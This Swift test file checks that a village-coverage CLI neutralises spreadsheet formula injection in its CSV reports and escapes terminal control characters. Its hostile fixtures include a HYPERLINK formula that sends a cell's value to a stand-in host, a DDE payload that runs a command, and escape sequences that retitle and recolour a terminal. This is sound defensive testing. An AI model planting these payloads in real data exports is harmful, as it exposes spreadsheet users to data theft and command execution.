import Foundation
import Testing

/// Issue class 3: text that a spreadsheet would run as a formula is neutralised in every CSV
/// output, numbers stay numbers, and data never sends control characters to the terminal.
@Suite("Class 3: spreadsheet formula injection and terminal escapes")
struct Class3SpreadsheetInjectionTests {
    /// Names a hostile input uses, each starting with one of the formula triggers (a leading
    /// tab is trimmed by the loaders like a space, so it cannot reach an output; the unit suite
    /// covers it).
    static let hostileNames = [
        #"=HYPERLINK("http://example.invalid/?x="&A1,"Bấm")"#, "+SUM(1;2)", "-2+3", "@cmd", "\rXuống dòng",
    ]
    /// A name that would recolour the terminal, set its title and ring the bell.
    static let terminalAttack = "\u{1B}[31mĐỏ\u{1B}]0;pwned\u{07}\u{202E}cba"

    /// The embedded default data plus villages far from every cell (so they are dead zones)
    /// carrying the hostile names, and one cell whose operator, site and cell ids are hostile.
    static func hostileInputs(in folder: URL) throws -> (villages: String, cells: String) {
        let villages = folder.appendingPathComponent("villages.csv").path
        let cells = folder.appendingPathComponent("cells.csv").path
        var villageText = try String(contentsOfFile: CLI.repository.path + "/geodata/default/villages.csv", encoding: .utf8)
        for (index, name) in (hostileNames + [terminalAttack]).enumerated() {
            villageText += "=X\(index),\(csvQuoted(name)),11,90001,104.75\(index),18.5,120,30,false,rural\n"
        }
        var cellText = try String(contentsOfFile: CLI.repository.path + "/geodata/default/cells.csv", encoding: .utf8)
        cellText += "-C1,+S1,@Nhà mạng,4G,1800,102.64,21.80,30,0,65,29.3,grid\n"
        try villageText.write(toFile: villages, atomically: true, encoding: .utf8)
        try cellText.write(toFile: cells, atomically: true, encoding: .utf8)
        return (villages, cells)
    }

    /// A villages.csv in `folder` with the contract's header and `rows`; returns its path.
    static func villagesFile(in folder: URL, rows: [String]) throws -> String {
        let path = folder.appendingPathComponent("villages.csv").path
        let header = "village_id,name,province_code,commune_code,lon,lat,population,households,grid_power,area_type"
        try ([header] + rows).map { $0 + "\n" }.joined().write(toFile: path, atomically: true, encoding: .utf8)
        return path
    }

    @Test("every text cell of every report CSV that starts with = + - @ tab or CR is neutralised; numbers stay numeric")
    func reportCSVs() throws {
        let folder = try CLI.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let inputs = try Self.hostileInputs(in: folder)
        let out = folder.appendingPathComponent("report").path
        let result = try CLI.run(["report", "--no-area", "--villages", inputs.villages, "--cells", inputs.cells, "--out", out])
        #expect(result.exitCode == 0, "stderr: \(result.stderr)")
        for name in ["villages.csv", "provinces.csv", "communes.csv", "operators.csv", "sites.csv", "deadzones.csv", "unpowered.csv"] {
            let rows = try parseCSV(out + "/" + name)
            #expect(rows.count > 1, "\(name) has no rows")
            for row in rows { for field in row { #expect(isSafeSpreadsheetCell(field), "\(name): unsafe cell \(field.debugDescription)") } }
        }
        let deadZones = try parseCSV(out + "/deadzones.csv")
        let listHeader = try #require(deadZones.first)
        let nameColumn = try #require(listHeader.firstIndex(of: "name"))
        let idColumn = try #require(listHeader.firstIndex(of: "village_id"))
        let names = Set(deadZones.dropFirst().map { $0[nameColumn] })
        for name in Self.hostileNames { #expect(names.contains("'" + name), "deadzones.csv lacks the neutralised \(name.debugDescription)") }
        let ids = Set(deadZones.dropFirst().map { $0[idColumn] })
        #expect(ids.contains("'=X0"))

        let villageRows = try parseCSV(out + "/villages.csv")
        let header = try #require(villageRows.first)
        let rsrp = try #require(header.firstIndex(of: "best_4g_rsrp_dbm"))
        let covered = villageRows.dropFirst().filter { !$0[rsrp].isEmpty }
        #expect(!covered.isEmpty && covered.allSatisfy { $0[rsrp].hasPrefix("-") && Double($0[rsrp]) != nil },
                "RSRP stays a negative number, not neutralised text")
        let operators = try parseCSV(out + "/operators.csv").dropFirst().map { $0[0] }
        #expect(operators.contains("'@Nhà mạng"))
        let sites = try parseCSV(out + "/sites.csv").dropFirst().map { $0[0] }
        #expect(sites.contains("'+S1"))
    }

    @Test("the rejects file neutralises hostile text and keeps the input's numbers as numbers")
    func rejectsFile() throws {
        let folder = try CLI.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let villages = try Self.villagesFile(in: folder, rows: [
            "V1,Thôn 1,11,90001,102.58,22.61,399,100,true,rural",
            "V2,=cmd|'/C calc'!A0,11,90001,102.58,22.62,-5,100,true,rural",
        ])
        let rejects = folder.appendingPathComponent("rejects.csv").path
        let result = try CLI.run(["validate", "--villages", villages, "--cells", CLI.repository.path + "/geodata/default/cells.csv", "--rejects", rejects])
        #expect(result.exitCode == 0, "stderr: \(result.stderr)")
        let rows = try parseCSV(rejects)
        #expect(rows.count == 2)
        let row = try #require(rows.last)
        #expect(row[1] == "'=cmd|'/C calc'!A0")
        #expect(row[4] == "102.58" && row[6] == "-5", "numbers from the input stay numbers: \(row)")
        for field in row { #expect(isSafeSpreadsheetCell(field), "unsafe cell \(field.debugDescription)") }
    }

    @Test("the terminal never receives a control character from the data: ESC, BEL and bidi overrides are shown escaped")
    func terminalEscapes() throws {
        let folder = try CLI.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let inputs = try Self.hostileInputs(in: folder)
        let result = try CLI.run(["deadzones", "--villages", inputs.villages, "--cells", inputs.cells])
        #expect(result.exitCode == 0, "stderr: \(result.stderr)")
        #expect(result.stdout.contains(#"\x1B[31mĐỏ\x1B]0;pwned\x07\u{202E}cba"#))
        #expect(result.stdout.contains(#"\x0DXuống dòng"#))
        for text in [result.stdout, result.stderr] {
            let controls = text.unicodeScalars.filter { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) || (0x202A...0x202E).contains($0.value) }
            #expect(controls.isEmpty, "raw control characters reached the terminal: \(controls.map { String($0.value, radix: 16) })")
        }
    }

    @Test("a problem message quoting a hostile value escapes its control characters")
    func problemMessages() throws {
        let folder = try CLI.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let villages = try Self.villagesFile(in: folder, rows: ["V1,Thôn 1,11,90001,102.58,22.61,\u{1B}[2J399,100,true,rural"])
        let result = try CLI.run(["validate", "--villages", villages, "--cells", CLI.repository.path + "/geodata/default/cells.csv"])
        #expect(result.exitCode == 65)
        #expect(result.stderr.contains(#"\x1B[2J399"#))
        #expect(!result.stderr.unicodeScalars.contains("\u{1B}"))
    }
}

/// Whether a spreadsheet would show `field` as a value: it does not start with a formula
/// trigger, or it is a plain number (a negative RSRP, say).
func isSafeSpreadsheetCell(_ field: String) -> Bool {
    guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return true }
    return Double(field) != nil && !field.contains(where: { $0.isLetter && $0 != "e" && $0 != "E" })
}

/// `text` as one CSV field, quoted when it holds a comma, quote or line break.
func csvQuoted(_ text: String) -> String {
    guard text.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" || $0 == "\r\n" }) else { return text }
    return "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""
}

/// An RFC 4180 reader for the tests (quoted fields, doubled quotes, CR LF or LF), independent
/// of phusong's own reader; drops a UTF-8 byte-order mark.
func parseCSV(_ path: String) throws -> [[String]] {
    var scalars = Array(try String(contentsOfFile: path, encoding: .utf8).unicodeScalars)
    if scalars.first == "\u{FEFF}" { scalars.removeFirst() }
    var rows: [[String]] = []
    var row: [String] = []
    var field = String.UnicodeScalarView()
    var quoted = false
    var index = 0
    while index < scalars.count {
        let scalar = scalars[index]
        if quoted {
            if scalar == "\"" {
                if index + 1 < scalars.count, scalars[index + 1] == "\"" { field.append("\""); index += 1 } else { quoted = false }
            } else {
                field.append(scalar)
            }
        } else if scalar == "\"" {
            quoted = true
        } else if scalar == "," {
            row.append(String(field)); field = String.UnicodeScalarView()
        } else if scalar == "\n" || scalar == "\r" {
            if scalar == "\r", index + 1 < scalars.count, scalars[index + 1] == "\n" { index += 1 }
            row.append(String(field)); field = String.UnicodeScalarView()
            rows.append(row); row = []
        } else {
            field.append(scalar)
        }
        index += 1
    }
    if !field.isEmpty || !row.isEmpty { row.append(String(field)); rows.append(row) }
    return rows
}
